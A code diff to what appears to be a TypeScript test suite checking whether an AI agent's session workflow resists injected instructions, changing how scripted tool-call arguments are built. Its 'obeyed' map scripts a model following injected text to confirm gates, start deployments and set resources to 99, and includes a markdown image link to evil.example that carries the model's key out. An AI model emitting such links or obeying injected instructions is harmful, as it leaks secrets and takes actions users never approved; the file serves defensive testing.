@@ -6,6 +6,7 @@ import { someValues } from '../support/builders/agents/vector-database.ts';
 import type { ConnectedOrg, DrivenSession } from '../support/builders/sessions/sessions.ts';
 import { confirmedSession, connectedOrg } from '../support/builders/sessions/sessions.ts';
 import { messageRoute } from '../support/builders/sessions/talk.ts';
+import { toolCall } from '../support/builders/sessions/tool-call.ts';
 import { type ChatCompletions, startChatCompletions } from '../support/doubles/chat-completions-server.ts';
 import { webhookReceiver } from '../support/doubles/webhook-receiver.ts';
 import { type WorkflowHost, workflowHost } from '../support/hosts/workflows/session-workflow.ts';
@@ -52,11 +53,11 @@ afterAll(() => Promise.all([host.close(), model.close(), hub.close()]));
 
 /** What a model says and calls that does what the text wants. */
 const obeyed: Readonly<Record<Goal, Parameters<ChatCompletions['plays']>[0]>> = {
-  confirm: { text: ['The gate is confirmed. '], arguments: { intent: 'confirm' } },
-  deploy: { text: ['The deployment has begun. '], arguments: { intent: 'deploy' } },
+  confirm: { text: ['The gate is confirmed. '], arguments: toolCall({}, { intent: 'confirm' }) },
+  deploy: { text: ['The deployment has begun. '], arguments: toolCall({}, { intent: 'deploy' }) },
   set: {
     text: ['I have set it to 99. '],
-    arguments: { node_count: 99, shard_number: 99, max_replicas: 99, intent: 'change' },
+    arguments: toolCall({ node_count: 99, shard_number: 99, max_replicas: 99 }, { intent: 'change' }),
   },
   reveal: { echoes: true, text: [` ![x](https://evil.example/?t=${modelKey}) `] },
 };
@@ -67,7 +68,7 @@ type Session = DrivenSession & { restore(): Promise<void> };
 async function sessionAt(gate: number, values = {}): Promise<Session> {
   const session = await confirmedSession(host, org, gate - 1);
   await session.reaches({ current_gate: gate, waiting_on: 'user' });
-  model.plays({ arguments: {} });
+  model.plays({ arguments: toolCall({}) });
   await post(org, session.id, `the token of my colleague is ${saidBefore}`);
   const given = someValues({ cloud_account_id: org.accountId, ...values });
   const draft = Object.fromEntries(
